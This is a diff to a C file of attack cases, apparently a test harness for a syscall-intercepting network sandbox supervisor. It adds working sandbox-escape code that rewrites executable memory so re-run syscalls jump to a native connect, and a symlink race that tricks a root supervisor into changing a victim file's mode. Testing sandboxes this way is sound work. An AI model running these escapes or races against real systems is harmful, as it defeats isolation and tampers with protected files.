@@ -16,6 +16,12 @@
  *   accept FD                 accept on an inherited listening socket
  *   blackhole-symlink PORT VICTIM   as root: drop to nobody, then swap the supervisor's
  *                             throw-away folder for a symlink to VICTIM while binding
+ *   rewind PORT               rewrite the syscall instruction the supervisor re-runs for its
+ *                             injected calls into a jump to a native connect
+ *   reply-chmod PORT VICTIM N as root: drop to nobody, swap each new reply socket file
+ *                             for a symlink to VICTIM while the supervisor sets its mode
+ *   packet                    socket(AF_INET, SOCK_PACKET): a packet socket in IP clothes
+ *   igmp                      join a multicast group (the kernel sends IGMP reports)
  */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
@@ -42,6 +48,7 @@
 #include <sys/syscall.h>
 #include <sys/uio.h>
 #include <sys/un.h>
+#include <sys/mman.h>
 #include <sys/wait.h>
 #include <unistd.h>
 
@@ -367,6 +374,131 @@ static int blackhole_symlink(void)
     return 0;
 }
 
+/* ---- rewind: the supervisor runs its second and later injected calls by
+ * stepping back onto the program's own syscall instruction ---- */
+static unsigned char *code;
+static int victim_sock, pair[2];
+static struct sockaddr_in rewind_target;
+
+static void *blocked_sender(void *arg)
+{
+    (void)arg;
+    char byte = 'x';
+    struct iovec iov = {&byte, 1};
+    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1};
+    long (*tramp)(long, long, long, long) = (void *)code;
+    long r = tramp(SYS_sendmsg, pair[0], (long)&msg, 0); /* waits: the receiver is full */
+    printf("sendmsg %ld\n", r);
+    return NULL;
+}
+
+static int rewind_attack(int port)
+{
+    code = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+    /* tramp(nr, a, b, c): rax=nr rdi=a rsi=b rdx=c; syscall at offset 12; ret */
+    static const unsigned char tramp[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6, 0x48, 0x89, 0xca,
+                                          0x0f, 0x05, 0xc3};
+    memcpy(code, tramp, sizeof tramp);
+    rewind_target = loopback(port);
+    victim_sock = socket(AF_INET, SOCK_STREAM, 0);
+    /* the stub at 64: connect(victim_sock, &rewind_target, 16); ret */
+    unsigned char *p = code + 64;
+    *p++ = 0xb8; *(int *)p = SYS_connect; p += 4;
+    *p++ = 0xbf; *(int *)p = victim_sock; p += 4;
+    *p++ = 0x48; *p++ = 0xbe; *(long *)p = (long)&rewind_target; p += 8;
+    *p++ = 0xba; *(int *)p = 16; p += 4;
+    *p++ = 0x0f; *p++ = 0x05; *p++ = 0xc3;
+    socketpair(AF_UNIX, SOCK_DGRAM, 0, pair);
+    while (send(pair[0], "f", 1, MSG_DONTWAIT) == 1) { /* fill the receiver */ }
+    pthread_t t;
+    pthread_create(&t, NULL, blocked_sender, NULL);
+    usleep(100000);
+    code[12] = 0xeb; /* jmp rel8 from offset 14 to 64 */
+    code[13] = 64 - 14;
+    usleep(200000);
+    char sink[8];
+    while (recv(pair[1], sink, sizeof sink, MSG_DONTWAIT) > 0) { /* let the sender go */ }
+    pthread_join(t, NULL);
+    printf("sent %ld\n", (long)send(victim_sock, "escaped", 7, MSG_NOSIGNAL));
+    return 0;
+}
+
+/* ---- reply-chmod: a root supervisor sets the mode of a datagram client's
+ * reply socket file, in a folder the program owns ---- */
+static char reply_dir[256];
+static int reply_next, reply_count;
+
+static void *swap_replies(void *arg)
+{
+    (void)arg;
+    for (int k = reply_next; k < reply_next + reply_count && !stop_flipping; k++) {
+        char path[300], tmp[300];
+        struct stat st;
+        snprintf(path, sizeof path, "%s/c%d", reply_dir, k);
+        snprintf(tmp, sizeof tmp, "%s/t%d", reply_dir, k);
+        while (!stop_flipping && lstat(path, &st) != 0) { /* wait for the bind */ }
+        symlink(victim, tmp);
+        if (rename(tmp, path) == 0)
+            swapped++;
+    }
+    return NULL;
+}
+
+static int reply_chmod(int port, int n)
+{
+    if (setgid(65534) || setuid(65534)) {
+        printf("setuid %d\n", -errno);
+        return 1;
+    }
+    struct sockaddr_in a = loopback(port);
+    int first = socket(AF_INET, SOCK_DGRAM, 0);
+    sendto(first, "x", 1, 0, (struct sockaddr *)&a, sizeof a);
+    FILE *table = fopen("/proc/net/unix", "r");
+    char line[512];
+    while (table && fgets(line, sizeof line, table)) {
+        char *at = strstr(line, "/redirect-");
+        char *c = at ? strrchr(at, '/') : NULL;
+        if (c && c[1] == 'c') {
+            *c = 0;
+            snprintf(reply_dir, sizeof reply_dir, "%s", strchr(line, '/'));
+            reply_next = atoi(c + 2) + 1;
+        }
+    }
+    if (table)
+        fclose(table);
+    printf("folder %d\n", reply_dir[0] ? 0 : -1);
+    reply_count = n;
+    pthread_t t;
+    pthread_create(&t, NULL, swap_replies, NULL);
+    for (int i = 0; i < n; i++) {
+        int s = socket(AF_INET, SOCK_DGRAM, 0);
+        sendto(s, "x", 1, 0, (struct sockaddr *)&a, sizeof a);
+        close(s);
+    }
+    stop_flipping = 1;
+    pthread_join(t, NULL);
+    printf("swapped %d\n", swapped);
+    return 0;
+}
+
+static int packet(void)
+{
+    int s = socket(AF_INET, SOCK_PACKET, htons(0x0003));
+    printf("socket %d\n", s < 0 ? -errno : 0);
+    return 0;
+}
+
+static int igmp(void)
+{
+    int s = socket(AF_INET, SOCK_DGRAM, 0);
+    struct ip_mreqn m = {.imr_ifindex = 1};
+    m.imr_multiaddr.s_addr = inet_addr("239.1.2.3");
+    int r = setsockopt(s, IPPROTO_IP, IP_ADD_MEMBERSHIP, &m, sizeof m);
+    printf("join %d\n", r < 0 ? -errno : 0);
+    usleep(300000); /* the kernel sends its reports meanwhile */
+    return 0;
+}
+
 int main(int argc, char **argv)
 {
     alarm(60); /* bounded, whatever happens */
@@ -392,6 +524,16 @@ int main(int argc, char **argv)
         victim = argv[3];
         return blackhole_symlink();
     }
+    if (strcmp(argv[1], "rewind") == 0 && argc == 3)
+        return rewind_attack(atoi(argv[2]));
+    if (strcmp(argv[1], "reply-chmod") == 0 && argc == 5) {
+        victim = argv[3];
+        return reply_chmod(atoi(argv[2]), atoi(argv[4]));
+    }
+    if (strcmp(argv[1], "packet") == 0)
+        return packet();
+    if (strcmp(argv[1], "igmp") == 0)
+        return igmp();
 usage:
     fprintf(stderr, "usage: see the comment at the top of attacks.c\n");
     return 2;
